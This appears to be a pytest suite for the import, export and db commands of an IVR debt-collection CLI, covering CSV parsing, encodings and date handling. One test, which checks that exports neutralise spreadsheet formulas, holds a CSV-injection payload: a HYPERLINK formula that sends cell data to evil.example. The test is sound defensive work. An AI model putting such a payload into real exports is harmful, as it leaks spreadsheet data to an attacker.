"""`ivr import`, `ivr export` and `ivr db` through ivr.cli.main, on a temporary SQLite file."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import logging
from decimal import Decimal
from pathlib import Path

import pytest
from sqlalchemy import func, select, update

from ivr.cli import main
from ivr.commands.export_cmd import parse_since
from ivr.db.base import make_engine, make_session_factory
from ivr.db.models import Account, BlockListEntry, DebtCase, ImportRun, Payment
from ivr.sample import ACCOUNTS_CSV, PAYMENTS_CSV
from ivr.sample.generate import BROKEN_ACCOUNT_LINES, WARNING_LINE
from tests.billing.test_exporter import fill
from tests.billing.test_import_broken import STRAY_QUOTE, utf8_file_with_one_cp1251_line


@pytest.fixture
def ivr(tmp_path, monkeypatch, capsys):
    """ivr(*args) -> (exit code, stdout, stderr) against a fresh SQLite file."""
    monkeypatch.setenv("IVR_DATABASE_URL", f"sqlite:///{tmp_path / 'cli.sqlite3'}")
    monkeypatch.delenv("IVR_DEFAULT_TIMEZONE", raising=False)

    def call(*args: str) -> tuple[int, str, str]:
        code = main(["--env-file", str(tmp_path / "no.env"), *args])
        out = capsys.readouterr()
        return code, out.out, out.err

    root = logging.getLogger()
    handlers, level = root.handlers[:], root.level
    yield call
    root.handlers[:] = handlers  # main() pointed logging at pytest's captured stderr
    root.setLevel(level)


@pytest.fixture
def sessions(tmp_path):
    engine = make_engine(f"sqlite:///{tmp_path / 'cli.sqlite3'}")
    yield make_session_factory(engine)
    engine.dispose()


def count(sessions, model) -> int:
    with sessions() as s:
        return int(s.scalar(select(func.count()).select_from(model)) or 0)


def test_db_upgrade_and_init(ivr, tmp_path):
    code, out, _ = ivr("db", "upgrade")
    assert code == 0 and "database at revision" in out
    code, out, _ = ivr("db", "init")
    assert code == 0 and "seeded" in out and "reasons" in out
    code, out, _ = ivr("db", "init")
    assert code == 0 and "nothing new" in out
    code, _, err = ivr("db", "init", "--seed", str(tmp_path / "missing.toml"))
    assert code == 2 and "not found" in err


def test_import_sample_accounts_and_payments(ivr, sessions):
    code, out, _ = ivr("import", "accounts", str(ACCOUNTS_CSV))
    assert code == 0
    assert "200 rows read, 192 good (192 new, 0 updated, 0 unchanged), 8 rejected" in out
    for line, reason in BROKEN_ACCOUNT_LINES.items():
        assert f"line {line}: {reason}" in out
    assert f"line {WARNING_LINE}: bad phone '8 (495) 12' (too short); the account's other numbers were kept" in out
    assert count(sessions, Account) == 192

    code, out, _ = ivr("import", "accounts", str(ACCOUNTS_CSV))
    assert code == 0 and "(0 new, 0 updated, 192 unchanged)" in out and "already imported" in out

    code, out, _ = ivr("import", "payments", str(PAYMENTS_CSV))
    assert code == 0 and "42 rows read, 40 good (40 new" in out
    assert "duplicate payment id" in out and "unknown account '999999'" in out
    assert count(sessions, Payment) == 40
    with sessions() as s:
        assert s.scalar(select(func.count()).select_from(DebtCase).where(DebtCase.state == "paid")) > 0
        assert [r.kind for r in s.scalars(select(ImportRun).order_by(ImportRun.id))] == ["accounts", "accounts", "payments"]


def test_exit_codes_only_fail_when_nothing_was_read(ivr, tmp_path, sessions):
    header = "Лицевой счёт;ФИО;Телефон;Сумма долга\n"
    good_and_bad = tmp_path / "mixed.csv"
    good_and_bad.write_bytes((header + "1;Иванов;89161234567;10,00\n2;Петров;123;10,00\n").encode("cp1251"))
    all_bad = tmp_path / "bad.csv"
    all_bad.write_bytes((header + "1;Иванов;123;10,00\n").encode("cp1251"))
    no_columns = tmp_path / "columns.csv"
    no_columns.write_bytes("Адрес;Город\nЛенина 1;Омск\n".encode("cp1251"))
    bad_map = tmp_path / "map.toml"
    bad_map.write_text('[accounts]\nnonsense = "x"\n', encoding="utf-8")

    code, out, _ = ivr("import", "accounts", str(all_bad), "--dry-run")
    assert code == 1 and "line 2: bad phone '123' (too short)" in out
    code, out, _ = ivr("import", "accounts", str(good_and_bad), "--dry-run")
    assert code == 0 and "Dry run" in out and count(sessions, Account) == 0
    code, out, _ = ivr("import", "accounts", str(good_and_bad))
    assert code == 0 and "line 3: bad phone '123' (too short)" in out and count(sessions, Account) == 1
    code, _, err = ivr("import", "accounts", str(no_columns))
    assert code == 1 and "missing required column" in err
    code, _, err = ivr("import", "accounts", str(tmp_path / "nope.csv"))
    assert code == 1 and "no such file" in err
    code, _, err = ivr("import", "payments", str(good_and_bad), "--columns", str(bad_map))
    assert code == 2 and "unknown field 'nonsense'" in err


def test_export_commands(ivr, tmp_path, sessions):
    assert ivr("db", "init")[0] == 0
    with sessions.begin() as s:
        fill(s)
    out_file = tmp_path / "outcomes.json"
    code, _, err = ivr("export", "outcomes", "--format", "json", "--output", str(out_file))
    assert code == 0 and "wrote 2 outcomes rows" in err
    assert [r["account"] for r in json.loads(out_file.read_text(encoding="utf-8"))] == ["A-1", "A-2"]

    # 12.11.2026 is local (Moscow) midnight: 2026-11-11 21:00 UTC; A-1 was on the 10th
    code, out, _ = ivr("export", "outcomes", "--since", "12.11.2026")
    lines = out.strip().splitlines()
    assert lines[0].startswith("outcome_id,account,") and len(lines) == 2 and ",A-2," in lines[1]

    csv_file = tmp_path / "blocklist.csv"
    code, _, _ = ivr("export", "blocklist", "--output", str(csv_file), "--delimiter", ";", "--encoding", "cp1251")
    text = csv_file.read_bytes().decode("cp1251")
    assert code == 0 and text.startswith("account;holder_name;") and "A-2;Абонент 2;1800.50" in text

    code, out, _ = ivr("export", "callbacks", "--since", "2026-11-20")
    assert code == 0 and out.strip().count("\n") == 0  # the header only

    code, _, err = ivr("export", "callbacks", "--since", "yesterday")
    assert code == 2 and "--since" in err


def test_parse_since():
    assert parse_since("12.11.2026", "Europe/Moscow") == dt.datetime(2026, 11, 11, 21, 0)
    assert parse_since("2026-11-12", "UTC") == dt.datetime(2026, 11, 12, 0, 0)
    assert parse_since("2026-11-12T10:00:00+05:00", "Europe/Moscow") == dt.datetime(2026, 11, 12, 5, 0)
    assert parse_since("2026-11-12 10:00", "Europe/Moscow") == dt.datetime(2026, 11, 12, 7, 0)
    with pytest.raises(ValueError):
        parse_since("31.02.2026", "UTC")


def test_committed_sample_matches_its_generator(tmp_path):
    from ivr.sample.generate import write_sample

    accounts, payments = write_sample(tmp_path)
    assert accounts.read_bytes() == Path(ACCOUNTS_CSV).read_bytes()
    assert payments.read_bytes() == Path(PAYMENTS_CSV).read_bytes()
    accounts.read_bytes().decode("cp1251")  # Windows-1251 ...
    with pytest.raises(UnicodeDecodeError):
        accounts.read_bytes().decode("utf-8")  # ... and not UTF-8


# --- broken input ---------------------------------------------------------------------------------

def _ids(sessions):
    with sessions() as s:
        return s.scalars(select(Account.external_id)).all()


def test_cli_reports_the_broken_line_and_imports_the_rest(ivr, tmp_path, sessions):
    path = tmp_path / "q.csv"
    path.write_bytes(STRAY_QUOTE.encode("cp1251"))
    ivr("db", "upgrade")
    code, out, err = ivr("import", "accounts", str(path), "--no-progress")
    assert code == 0, err
    assert "line 3: unreadable record: a quote opened on this line is never closed" in out
    assert "Traceback" not in out + err
    assert sorted(_ids(sessions)) == ["B-1", "B-3", "B-4"]


def test_cli_refuses_a_mixed_file_with_the_line_numbers(ivr, tmp_path):
    path = tmp_path / "mixed.csv"
    path.write_bytes(utf8_file_with_one_cp1251_line())
    ivr("db", "upgrade")
    code, _out, err = ivr("import", "accounts", str(path), "--no-progress")
    assert code == 1 and "nothing imported: the file mixes encodings: line(s) 6 are not UTF-8" in err


def test_export_neutralises_formulas_and_keeps_numbers(ivr, sessions):
    assert ivr("db", "init")[0] == 0
    with sessions.begin() as s:
        fill(s)
        first, second = s.scalars(select(Account).order_by(Account.external_id)).all()
        first.holder_name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
        second.holder_name = "@SUM(1+1)"
        second.external_id = "-A-2"
        s.execute(update(DebtCase).where(DebtCase.account_id == second.id).values(amount_owed=Decimal("-150.00")))
        s.execute(update(BlockListEntry).values(amount_owed=Decimal("-150.00")))
    code, out, _ = ivr("export", "outcomes")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert code == 0 and [r["holder_name"] for r in rows] == [
        '\'=HYPERLINK("http://evil.example/?"&A1,"click")', "'@SUM(1+1)"]
    assert rows[1]["account"] == "'-A-2" and rows[1]["amount_owed"] == "-150.00"  # a number stays a number
    assert rows[0]["phone"] == "+79161234561"
    code, out, _ = ivr("export", "blocklist", "--delimiter", ";")
    assert code == 0 and "'-A-2;'@SUM(1+1);-150.00;" in out
